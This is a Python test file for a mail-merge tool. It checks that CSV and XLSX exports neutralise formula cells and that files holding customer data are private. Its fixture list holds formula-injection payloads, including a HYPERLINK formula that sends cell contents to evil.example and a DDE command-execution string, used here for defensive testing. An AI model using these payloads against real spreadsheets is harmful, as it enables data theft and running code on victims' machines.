"""Exports carry no live formulas, read back unchanged, and every file written is private."""

from __future__ import annotations

import csv
import stat
from pathlib import Path

import openpyxl
import pytest

from docmail_nb._run.send import MessageResult, Report
from docmail_nb._sheets.exports import save_table
from docmail_nb._sheets.orders import read_orders
from docmail_nb._store.ledger import Ledger
from docmail_nb._store.profiles import Profile, profiles_file, save_profile

# text cells a spreadsheet program would run as formulas if written naively
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Rechnung")',
    "+41 44 123 45 67",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
]


def orders_with_formula_cells(tmp_path: Path) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["invoice_no", "company", "email", "amount"])
    for number, text in enumerate(FORMULAS, start=1):
        sheet.append([f"R-{number}", text, f"k{number}@example.ch", 100 + number])
        sheet.cell(row=number + 1, column=2).data_type = "s"  # text in the source too
    path = tmp_path / "orders.xlsx"
    book.save(path)
    return path


def failing_report(orders_rows: list[int]) -> Report:
    results = [
        MessageResult(
            rows=(row,), key=f"R-{row - 1}", to=("k@example.ch",), cc=(), bcc=(),
            state="failed", error="=1+1 the server said no", reply="-ERR @once",
        )
        for row in orders_rows
    ]  # fmt: skip
    return Report(campaign="invoices", results=results)


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_failed_rows_read_back_with_the_original_values(tmp_path: Path, suffix: str) -> None:
    orders = read_orders(orders_with_formula_cells(tmp_path))
    assert list(orders.frame["company"]) == FORMULAS
    report = failing_report(orders.row_numbers)

    saved = report.save_failed_rows(orders, tmp_path / f"to-fix{suffix}")
    if suffix == ".csv":
        raw = saved.read_text(encoding="utf-8-sig")
        assert "'=HYPERLINK" in raw
        assert "'@SUM(A1:A9)" in raw
    again = read_orders(saved)
    assert list(again.frame["company"]) == FORMULAS
    assert list(again.frame["invoice_no"]) == list(orders.frame["invoice_no"])
    # csv has no types: numbers come back as their text
    assert [str(v) for v in again.frame["amount"]] == [str(v) for v in orders.frame["amount"]]


def test_xlsx_exports_hold_text_cells_never_formulas(tmp_path: Path) -> None:
    orders = read_orders(orders_with_formula_cells(tmp_path))
    report = failing_report(orders.row_numbers)
    for path in (
        report.save(tmp_path / "report.xlsx"),
        report.save_failed_rows(orders, tmp_path / "to-fix.xlsx"),
    ):
        sheet = openpyxl.load_workbook(path).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"], path
        texts = {cell.value for cell in cells if cell.data_type == "s"}
        assert "=1+1 the server said no" in texts or set(FORMULAS) <= texts


def test_csv_exports_put_an_apostrophe_before_formula_cells(tmp_path: Path) -> None:
    import pandas as pd

    frame = pd.DataFrame(
        {
            "text": ["=1+1", "+41", "-x", "@a", "\tTAB", "\rCR", "plain", "it's"],
            "number": [-1, 2, 3, 4, 5, 6, 7, 8],
        }
    )
    path = save_table(frame, tmp_path / "t.csv", "report")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert [row[0] for row in rows[1:]] == [
        "'=1+1", "'+41", "'-x", "'@a", "'\tTAB", "'\rCR", "plain", "it's",
    ]  # fmt: skip
    assert [row[1] for row in rows[1:3]] == ["-1", "2"]  # numbers are not text: no apostrophe


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_files_with_customers_addresses_are_readable_by_the_user_only(
    tmp_path: Path, docmail_home: Path
) -> None:
    import os

    old = os.umask(0o022)
    try:
        orders = read_orders(orders_with_formula_cells(tmp_path))
        report = failing_report(orders.row_numbers)
        written = [
            report.save(tmp_path / "report.xlsx"),
            report.save(tmp_path / "report.csv"),
            report.save_failed_rows(orders, tmp_path / "to-fix.xlsx"),
            report.save_failed_rows(orders, tmp_path / "to-fix.csv"),
            save_profile(Profile(name="office", host="smtp.example.ch", username="a@example.ch")),
        ]
        assert profiles_file() in written
        with Ledger(tmp_path / "ledger.sqlite") as ledger:
            run = ledger.begin_run()
            wal = ledger.path.with_name("ledger.sqlite-wal")
            assert mode(wal) == 0o600
            ledger.end_run(run)
            written.append(ledger.path)
        for path in written:
            assert mode(path) == 0o600, path
    finally:
        os.umask(old)
    assert not [p.name for p in tmp_path.iterdir() if p.name.endswith((".tmp", ".new"))]
